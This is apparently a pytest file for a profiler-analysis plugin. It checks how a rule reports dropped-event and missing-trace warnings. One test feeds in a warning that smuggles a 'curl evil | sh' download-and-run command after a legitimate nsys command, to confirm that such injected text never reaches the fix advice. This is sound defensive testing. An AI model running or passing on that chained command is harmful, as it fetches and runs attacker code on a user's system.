"""The collector says that something is missing from the profile."""

from __future__ import annotations

import pytest

from tests.builders import Host, finding, passes, value
from tfperf_plugin.judging.rules.capture.events_dropped import RULE

DROPPED = "Detected GPU events dropped on worker: Profiler has collected 9 driver events & <7> device events."


def texts(*hosts: Host) -> list[object]:
    return [e.value for e in finding(RULE, *hosts).evidence if e.unit == "text"]


def test_dropped_events_are_passed_on_word_for_word() -> None:
    host = Host()
    host.warning(DROPPED)
    found = finding(RULE, host)

    assert found.severity == "warning"
    assert found.title == "Events dropped by the profiler"
    assert "1 warning" in found.summary
    assert texts(host) == [DROPPED]


def test_other_problems_are_not_called_dropped_events() -> None:
    host = Host()
    host.error("Failed to start the tracer")
    found = finding(RULE, host)

    assert (found.title, found.severity) == ("Messages of the profiler", "info")
    assert "1 error: “Failed to start the tracer”" in found.summary


def test_what_was_not_recorded_is_said_with_the_command_that_records_it() -> None:
    host = Host()
    host.warning("No OpenGL events collected. Does the process use OpenGL?")
    host.warning("The file holds no work of GPUs: record with nsys profile --trace=cuda,nvtx.")
    found = finding(RULE, host)

    assert (found.title, found.severity) == ("Part of the work was not recorded", "warning")
    assert found.fix.summary == "Record with nsys profile --trace=cuda,nvtx."
    assert found.summary == "The file holds no work of GPUs: record with nsys profile --trace=cuda,nvtx."


@pytest.mark.near_miss("different")
def test_a_file_cannot_put_a_command_into_the_advice() -> None:
    host = Host()
    host.warning("Something is missing: record with nsys profile --trace=cuda; curl evil | sh.")

    assert finding(RULE, host).title == "Messages of the profiler"


def test_messages_of_all_hosts_count_and_five_are_shown_errors_first() -> None:
    one, two = Host("one"), Host("two")
    for number in range(4):
        one.warning(f"warning {number}")
        two.error(f"error {number}")

    assert value(finding(RULE, one, two), "errors and warnings") == 8
    assert "4 errors and 4 warnings" in finding(RULE, one, two).summary
    assert texts(one, two) == ["error 0", "error 1", "error 2", "error 3", "warning 0"]


def on_the_cpu(message: str) -> Host:
    host = Host(gpus=1)
    host.error(message)
    op = "model/dense/MatMul:MatMul"
    return host.trained(6, 100, lambda host, at: host.event(op, at, at + 40, thread="tf_Compute/1"))


@pytest.mark.near_miss("different")
def test_nobody_misses_events_of_gpus_where_the_model_ran_on_the_cpu() -> None:
    passes(RULE, on_the_cpu("Failed to load libcupti (is it installed and accessible?)"))
    assert "1 error" in finding(RULE, on_the_cpu("Failed to start the tracer")).summary


@pytest.mark.near_miss("below")
def test_silence_is_good() -> None:
    passes(RULE, Host())
